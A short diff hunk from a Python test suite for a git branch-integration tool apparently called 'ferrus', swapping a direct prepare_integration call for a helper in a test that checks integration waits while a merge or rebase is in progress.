@@ -763,7 +787,7 @@ def test_a_merge_or_rebase_in_progress_on_the_target_waits(repo, task, wt_dir):
     write(repo, "app.py", "print('main')\n")
     git(repo, "commit", "-qam", "main")
     write(task, "feature.py", "x = 1\n")
-    result = ferrus.prepare_integration(task, "main", "rebase", "t-1", EXCLUDE)
+    result = candidate(repo, task, wt_dir)
     assert git(repo, "merge", "ferrus/t-2", check=False).returncode != 0
     head = rev(repo)
     dirty = ferrus.fast_forward_target(repo, "main", head, result.head)
